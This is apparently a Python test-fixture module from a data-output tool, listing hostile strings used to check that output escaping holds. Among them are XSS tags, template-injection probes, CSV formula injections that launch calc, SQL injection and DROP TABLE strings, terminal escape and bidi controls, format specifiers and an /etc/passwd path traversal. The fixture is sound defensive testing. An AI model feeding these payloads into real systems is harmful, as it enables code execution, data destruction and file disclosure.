"""Hostile values and names: markup, HTML, template syntax, CSV formulas, SQL quotes, terminal
and bidi controls, format strings, paths, null look-alikes, emoji, line breaks, a long value.

Shared by every output's test: import `PAYLOADS` and `NAMES` (tests/hostile is on sys.path
through its conftest).
"""

from __future__ import annotations

PAYLOADS = [
    "[/]",
    "[bold red]alarm[/bold red]",
    "[link=file:///etc/passwd]click[/link]",
    ":thumbs_up: :smile:",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(1)>',
    "{{7*7}} ${7*7} #{7*7}",
    "{% raw %}{{ config }}{% endraw %}",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1\r",
    "'; DROP TABLE rowsift_runs; --",
    '" OR "1"="1',
    "Robert'); DROP TABLE students;--",
    "\\'\\\"\\\\",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://example.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\u202eexe.txt",
    "\u2066isolate\u2069 \u200f",
    "zero\u200bwidth \ufeffbom",
    "%s%s%n%x",
    "{0}{1!r}",
    "../../../../etc/passwd",
    "null",
    "NaN",
    "\\N",
    "&lt;&amp;&#x3c;",
    "👩‍👩‍👧 ﷽",
    "line\nbreak",
    'comma,and"quote',
    "x" * 5_000,
]
NAMES = ["[/]", "=cmd|x", "<b>", "\u202ename", 'a"b', "row", "dataset"]
"""Column names that are payloads too."""
